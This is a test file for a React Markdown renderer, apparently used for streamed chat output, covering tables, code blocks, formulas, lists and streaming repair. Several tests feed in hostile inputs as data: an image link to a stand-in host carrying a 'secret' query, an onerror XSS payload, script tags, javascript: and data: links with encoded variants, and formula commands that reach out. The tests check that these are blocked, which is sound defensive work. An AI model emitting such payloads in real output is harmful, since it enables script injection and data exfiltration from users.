import { render, screen } from "@testing-library/react";
import { expect, it, vi } from "vitest";
import { Markdown } from "./Markdown";
import { loadRepair } from "./parse";

function show(text: string, streaming = false) {
  return render(<Markdown text={text} streaming={streaming} />);
}

it("does not fetch an image from elsewhere by itself", () => {
  const { container } = show("![chart](https://evil.example/leak.png?q=secret)");
  expect(container.querySelector("img")).toBeNull();
  expect(screen.getByText(/evil\.example/)).toBeInTheDocument();
  const link = screen.getByRole("link", { name: "Open image in a new tab" });
  expect(link).toHaveAttribute("rel", expect.stringContaining("noopener"));
});

it("shows HTML as the text that it is", () => {
  const { container } = show(
    'Hello <img src=x onerror="alert(1)"> <b>you</b>\n\n<script>x</script>',
  );
  expect(container.querySelector("img, b, script")).toBeNull();
  expect(container).toHaveTextContent("<b>you</b>");
});

it("breaks lines inside of a table", () => {
  const { container } = show("| a |\n|---|\n| one<br>two |");
  expect(container.querySelector("td br")).not.toBeNull();
});

it("refuses addresses that run code", () => {
  show("[click](javascript:alert(1))");
  expect(screen.queryByRole("link")).toBeNull();
});

it("labels code with its language and offers to copy it", () => {
  show("```go\nfunc main() {}\n```");
  expect(screen.getByText("go")).toBeInTheDocument();
  expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
});

it("closes what the stream has not closed yet", async () => {
  await loadRepair();
  const { container } = show("some **bold", true);
  expect(container.querySelector("strong")).toHaveTextContent("bold");
});

it("draws only the last block anew while a text grows", async () => {
  await loadRepair();
  const { container, rerender } = show("First.\n\nSecond", true);
  const first = container.querySelector("p");
  rerender(<Markdown text={"First.\n\nSecond **one"} streaming />);
  expect(container.querySelector("p")).toBe(first);
  expect(container.querySelector("strong")).toHaveTextContent("one");
});

it.each([
  ["\\(x^2\\)", 1, 0],
  ["\\[x^2\\]", 1, 1],
  ["$$\nx^2\n$$", 1, 1],
  ["so $$x^2$$ it is", 1, 1],
  ["the area $\\pi r^2$, and $h$.", 2, 0],
  ["- in a list: \\(x^2\\)", 1, 0],
  ["it costs $5, or $6 with tax", 0, 0],
  ["US$5 or A$7, 3$ at most", 0, 0],
  ["`$x$` and `\\(x\\)` in code", 0, 0],
  ["```\n\\[x\\]\n```", 0, 0],
])("finds the formulas of %j", async (text, count, displayed) => {
  const { container } = show(text);
  await vi.waitFor(() => {
    expect(container.querySelectorAll(".katex")).toHaveLength(count);
    expect(container.querySelectorAll(".katex-display")).toHaveLength(displayed);
  });
});

it("leaves a formula that can't be drawn as it was written", async () => {
  const { container } = show("\\(\\frac{1\\)");
  await vi.waitFor(() => expect(container.querySelector("span code")).not.toBeNull());
  expect(container).toHaveTextContent("\\frac{1");
});

it("lets no formula reach out", async () => {
  const { container } = show(
    "\\(\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/a.png}\\)",
  );
  await vi.waitFor(() => expect(container.querySelector(".katex, span code")).not.toBeNull());
  expect(container.querySelector("a, img")).toBeNull();
});

it("shows characters by their names, except in code", () => {
  const { container } = show("Fish &amp; chips &lt;b&gt; `&amp;` [a](https://e.org/?a=1&amp;b=2)");
  expect(container.querySelector("p")).toHaveTextContent("Fish & chips <b> &amp; a");
  expect(screen.getByRole("link")).toHaveAttribute("href", "https://e.org/?a=1&b=2");
});

it.each([
  "[x](data:text/html,hello)",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](//evil.example)",
  "[x](/settings)",
  "<javascript:alert(1)>",
])("makes no link of %s", (text) => {
  show(text);
  expect(screen.queryByRole("link")).toBeNull();
});

it("numbers lists, ticks tasks and aligns columns", () => {
  const { container } = show("3. three\n4. four\n\n- [x] done\n- [ ] not\n\n|a|b|\n|-|-:|\n|1|2|");
  expect(container.querySelector("ol")).toHaveAttribute("start", "3");
  expect(screen.getAllByRole("checkbox").map((box) => (box as HTMLInputElement).checked)).toEqual([
    true,
    false,
  ]);
  expect(container.querySelector("td:last-child")).toHaveStyle({ textAlign: "right" });
});
